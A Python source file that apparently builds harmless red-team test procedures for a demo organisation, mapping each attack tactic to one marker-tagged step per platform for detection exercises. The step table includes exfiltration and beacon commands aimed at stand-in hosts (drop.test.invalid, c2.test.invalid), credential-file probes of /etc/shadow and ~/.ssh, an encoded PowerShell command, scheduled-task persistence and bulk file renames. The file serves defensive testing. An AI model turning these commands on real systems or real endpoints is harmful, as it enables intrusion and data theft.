"""What red runs in a test of the made-up organisation: harmless steps that leave a trace of the right kind."""

from data.demo.procedures import Procedure

_MARK = "aegis-demo"
_UNIX = frozenset({"Linux", "macOS", "ESXi", "Containers", "Network Devices"})

# Tactic -> the one step that matters: at a Windows prompt, in a Unix shell, and anywhere else in words.
_STEPS: dict[str, tuple[str, str, str]] = {
    "initial-access": (
        'powershell -Command "Set-Content $env:TEMP\\#{mark}-invoice.txt opened"',
        "echo opened > /tmp/#{mark}-invoice.txt",
        "Open the harmless message #{mark} in the test mailbox and follow its link to the training page.",
    ),
    "execution": (
        "powershell -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAxAA==",
        "sh -c 'echo #{mark}'",
        "Run the function #{mark}, which prints its own name, from the console.",
    ),
    "persistence": (
        'schtasks /Create /TN #{mark} /SC ONCE /ST 23:59 /TR "cmd /c echo #{mark}"',
        "echo '# #{mark}' >> ~/.profile",
        "Register a second sign-in method, named #{mark}, for the test account.",
    ),
    "privilege-escalation": (
        "whoami /priv > %TEMP%\\#{mark}.txt",
        "sudo -l > /tmp/#{mark}.txt",
        "Give the test account the role of a reader for an hour, then take it away.",
    ),
    "defense-evasion": (
        "copy %SystemRoot%\\System32\\where.exe %TEMP%\\#{mark}.exe && %TEMP%\\#{mark}.exe where",
        "cp /bin/ls /tmp/#{mark} && touch -d 2020-01-01 /tmp/#{mark} && /tmp/#{mark} /",
        "Sign in with the test account through an unusual client, named #{mark}.",
    ),
    "credential-access": (
        "cmdkey /list > %TEMP%\\#{mark}.txt",
        "ls -l /etc/shadow ~/.ssh > /tmp/#{mark}.txt",
        "Fail to sign in five times with the test account, then succeed.",
    ),
    "discovery": (
        "whoami /all > %TEMP%\\#{mark}.txt && ipconfig /all >> %TEMP%\\#{mark}.txt",
        "id > /tmp/#{mark}.txt; uname -a >> /tmp/#{mark}.txt",
        "List the users and groups that the test account can see, page by page.",
    ),
    "lateral-movement": (
        "dir \\\\testhost\\C$ > %TEMP%\\#{mark}.txt",
        "ssh testhost hostname > /tmp/#{mark}.txt",
        "Open the second test workload from the first with its own account.",
    ),
    "collection": (
        "robocopy C:\\TestData %TEMP%\\#{mark} *.txt",
        "tar -cf /tmp/#{mark}.tar /srv/testdata",
        "Download the folder TestData, which holds invented files, with the test account.",
    ),
    "command-and-control": (
        "curl.exe -s https://c2.test.invalid/#{mark}",
        "curl -s https://c2.test.invalid/#{mark}",
        "Call the address https://c2.test.invalid/#{mark} from the test workload once a minute, ten times.",
    ),
    "exfiltration": (
        "curl.exe -s -F file=@%TEMP%\\#{mark}.txt https://drop.test.invalid/",
        "curl -s -F file=@/tmp/#{mark}.txt https://drop.test.invalid/",
        "Share one invented file of TestData with the outside test account.",
    ),
    "impact": (
        "cmd /c ren C:\\TestData\\*.txt *.#{mark}",
        "for f in /srv/testdata/*.txt; do mv $f $f.#{mark}; done",
        "Delete the folder TestData, which holds invented files, with the test account.",
    ),
}
_ALIKE = {"stealth": "defense-evasion", "defense-impairment": "defense-evasion"}


def text_of(procedure: Procedure, platform: str, environment: str) -> str:
    """The procedure as red reads it: what for, what to run, what to write down, what to clean up."""
    windows, unix, elsewhere = _STEPS[_tactic(procedure)]
    step = windows if platform == "Windows" else unix if platform in _UNIX else elsewhere
    return "\n".join(
        (
            f"{procedure.title}: does the defence on {platform} notice?",
            "",
            f"1. Tell the lead of the blue team when it begins, and use a test host only ({environment}).",
            "2. Write down the time in UTC, to the second: time to detect counts from here.",
            f"3. {step.replace('#{mark}', _MARK)}",
            "4. Keep the output and add it as evidence of red's side.",
            f"5. Clean up: remove whatever is named {_MARK} and put renamed files back.",
        )
    )


def _tactic(procedure: Procedure) -> str:
    """The first tactic of the technique that has a step; the maps of other domains have tactics of their own."""
    known = (_ALIKE.get(tactic, tactic) for tactic in procedure.subject.tactics)
    return next((tactic for tactic in known if tactic in _STEPS), "execution")
